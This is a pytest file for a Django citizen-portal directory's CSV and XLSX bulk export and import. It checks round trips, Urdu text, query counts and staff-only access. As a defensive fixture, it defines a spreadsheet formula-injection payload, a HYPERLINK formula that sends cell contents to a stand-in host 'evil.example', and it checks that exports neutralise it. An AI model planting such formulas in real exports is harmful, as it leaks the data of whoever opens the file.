import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from citizen_portal.accounts.models import Role
from citizen_portal.directory.models import (
    Category,
    Department,
    Office,
    Position,
    PositionHolding,
    RoutingRule,
)
from citizen_portal.directory.services.bulk import ENTITIES, export_file, export_rows, import_file
from citizen_portal.directory.tests.factories import (
    CategoryFactory,
    OfficeFactory,
    PositionFactory,
    StaffFactory,
    hold,
    rule,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def rich_world(world):
    """The world, with Urdu names, a second position held by one officer and text that a
    spreadsheet would take for a formula, so that a round trip has something to lose."""
    world.lesco.name_ur = "لاہور الیکٹرک سپلائی کمپنی"
    world.lesco.name_ur_official = True
    world.lesco.website = "https://www.lesco.gov.pk"
    world.lesco.save()
    world.positions.se.title_ur = "سپرنٹنڈنگ انجینئر"
    world.positions.se.save()
    office = OfficeFactory(
        department=world.lesco, name_en="-Kasur | Division", jurisdiction=world.kasur
    )
    xen = PositionFactory(
        office=office, title_en="@XEN", supervisor=world.positions.se, is_active=False
    )
    hold(world.officers.se, xen)  # additional charge: two positions at once
    world.supply.name_en = FORMULA
    world.supply.out_of_scope = True
    world.supply.save()
    world.officers.focal.email = "focal@lesco.example"
    world.officers.focal.full_name = "+92 Naveed Akhtar"
    world.officers.focal.role = Role.FOCAL_PERSON
    world.officers.focal.save()
    rule(world.supply, world.kasur, xen)
    return world


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("entity", list(ENTITIES))
def test_exported_file_imported_again_changes_nothing(rich_world, entity, file_format):
    before_rows = export_rows(entity=entity)[1]
    holdings_before = list(PositionHolding.objects.values_list("pk", "ended_at"))
    content = export_file(entity=entity, file_format=file_format)

    result = import_file(entity=entity, filename=f"export.{file_format}", content=content)

    assert result.errors == []
    assert result.rows == len(before_rows) > 0
    assert (result.counts.created, result.counts.updated) == (0, 0)
    assert result.counts.unchanged == len(before_rows)
    assert export_rows(entity=entity)[1] == before_rows
    assert list(PositionHolding.objects.values_list("pk", "ended_at")) == holdings_before


def test_officer_with_two_positions_exports_both_and_citizens_are_left_out(rich_world):
    header, rows = export_rows(entity="officers")
    by_username = {row[0]: dict(zip(header, row, strict=True)) for row in rows}

    assert by_username["lesco.se"]["positions"] == (
        "FED-LESCO | LESCO Lahore Circle | Superintending Engineer; "
        "FED-LESCO | -Kasur | Division | @XEN"
    )
    assert by_username["lesco.focal"]["role"] == "focal_person"
    assert rich_world.citizen.username not in by_username


def test_an_ended_holding_is_not_exported_as_held(world):
    PositionHolding.objects.filter(user=world.officers.ceo).update(ended_at="2026-01-01T00:00Z")
    header, rows = export_rows(entity="officers")
    ceo = next(row for row in rows if row[0] == "lesco.ceo")
    assert ceo[header.index("positions")] == ""


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(rich_world):
    content = export_file(entity="categories", file_format="csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    supply = next(row for row in rows if row["code"] == "FED-LESCO.SUPPLY")
    assert supply["name_en"] == "'" + FORMULA

    offices = export_file(entity="offices", file_format="csv").decode("utf-8-sig")
    assert "'-Kasur | Division" in offices
    positions = export_file(entity="positions", file_format="csv").decode("utf-8-sig")
    assert ",'@XEN," in positions
    officers = export_file(entity="officers", file_format="csv").decode("utf-8-sig")
    assert "'+92 Naveed Akhtar" in officers


def test_xlsx_export_stores_formula_lookalikes_as_text(rich_world):
    content = export_file(entity="categories", file_format="xlsx")

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = {row[0].value: row[3] for row in sheet.iter_rows(min_row=2)}
    assert cells["FED-LESCO.SUPPLY"].value == FORMULA
    assert cells["FED-LESCO.SUPPLY"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_xlsx_export_writes_deadlines_as_numbers_and_urdu_as_is(rich_world):
    sheet = load_workbook(io.BytesIO(export_file(entity="categories", file_format="xlsx")))
    rows = list(sheet.worksheets[0].iter_rows(values_only=True))
    assert rows[0][6] == "deadline_working_days"
    assert {row[6] for row in rows[1:]} == {10}
    departments = load_workbook(io.BytesIO(export_file(entity="departments", file_format="xlsx")))
    names = [row[5] for row in departments.worksheets[0].iter_rows(values_only=True)]
    assert "لاہور الیکٹرک سپلائی کمپنی" in names


@pytest.fixture
def crowded_world(world):
    """Twenty of everything, each pointing at others, to show that the query count of an
    export does not grow with its length."""
    for n in range(20):
        office = OfficeFactory(department=world.lesco, jurisdiction=world.kasur)
        position = PositionFactory(office=office, supervisor=world.positions.se)
        hold(StaffFactory(), position)
        category = CategoryFactory(department=world.lesco, parent=world.billing, depth=1)
        rule(category, world.kasur if n % 2 else world.lahore, position)
        world.lesco.children.create(
            code=f"LESCO-{n}",
            tier=world.tier,
            kind="company",
            name_en=f"Company {n}",
            focal_position=position,
        )
    return world


@pytest.mark.parametrize(
    ("entity", "queries"),
    [
        ("departments", 1),
        ("offices", 1),
        ("positions", 1),
        ("officers", 2),
        ("categories", 1),
        ("routing-rules", 1),
    ],
)
def test_export_reads_a_fixed_number_of_queries(
    crowded_world, django_assert_max_num_queries, entity, queries
):
    with django_assert_max_num_queries(queries):
        _header, rows = export_rows(entity=entity)
    assert len(rows) >= 20


def test_counts_of_the_crowded_world_are_what_the_exports_list(crowded_world):
    assert len(export_rows(entity="departments")[1]) == Department.objects.count()
    assert len(export_rows(entity="offices")[1]) == Office.objects.count()
    assert len(export_rows(entity="positions")[1]) == Position.objects.count()
    assert len(export_rows(entity="categories")[1]) == Category.objects.count()
    assert len(export_rows(entity="routing-rules")[1]) == RoutingRule.objects.count()


# --- The export views ---------------------------------------------------------------------


@pytest.fixture
def admin_client(client, world):
    client.force_login(
        StaffFactory(username="admin", role="administrator", is_staff=True, is_superuser=True)
    )
    return client


def test_staff_download_a_csv_export_named_after_the_list(admin_client):
    response = admin_client.get("/directory/bulk/positions/export.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="directory-positions-' in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    text = response.content.decode("utf-8-sig")
    assert (
        text.splitlines()[0]
        == "department_code,office_name_en,title_en,title_ur,supervisor,is_active"
    )
    assert "FED-LESCO,LESCO Lahore Circle,Superintending Engineer" in text


def test_staff_download_an_xlsx_export(admin_client):
    response = admin_client.get("/directory/bulk/routing-rules/export.xlsx")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert list(sheet.iter_rows(values_only=True)) == [
        ("category_code", "area_code", "position"),
        (
            "FED-LESCO.BILL",
            "PK-PB-LHR-LHR",
            "FED-LESCO | LESCO Lahore Circle | Superintending Engineer",
        ),
    ]


def test_a_list_that_does_not_exist_is_not_found(admin_client):
    assert admin_client.get("/directory/bulk/complaints/export.csv").status_code == 404


def test_someone_who_is_not_staff_is_sent_to_the_admin_login(client, world):
    client.force_login(world.officers.se)  # an officer, but without staff status
    response = client.get("/directory/bulk/officers/export.csv")
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/?next=/directory/bulk/officers/export.csv")


def test_staff_without_the_view_permission_may_not_export_officers(client, world):
    client.force_login(StaffFactory(role="administrator", is_staff=True))
    assert client.get("/directory/bulk/officers/export.csv").status_code == 403
